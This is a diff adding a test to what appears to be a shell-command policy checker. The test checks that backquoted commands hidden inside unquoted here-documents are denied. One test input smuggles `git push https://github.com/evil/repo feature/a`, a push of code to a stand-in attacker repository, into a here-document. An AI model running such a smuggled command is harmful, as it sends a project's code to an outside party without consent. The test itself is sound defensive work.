@@ -225,3 +225,10 @@ def test_a_windows_drive_is_outside_every_directory() -> None:
     assert _wd("cd 'D:\\work\\other'") == "DENY"
     assert _wd("git -C C:/Users/me/other status") == "DENY"
     assert _wd("ls C:/Windows") == "ALLOW"  # a path read, not a directory change
+
+
+def test_backquotes_in_an_unquoted_here_document_run() -> None:
+    assert _wd("cat <<E\n`cd /etc`\nE") == "DENY"
+    assert _gh("cat > notes.txt <<E\nsee `git push https://github.com/evil/repo feature/a`\nE") == "DENY"
+    assert _wd("cat <<'E'\nrun `cd /etc` by hand\nE") == "ALLOW"  # a quoted delimiter: text
+    assert _wd("cat <<E\nuse \\`cd /etc\\` to build\nE") == "ALLOW"  # escaped backquotes: text
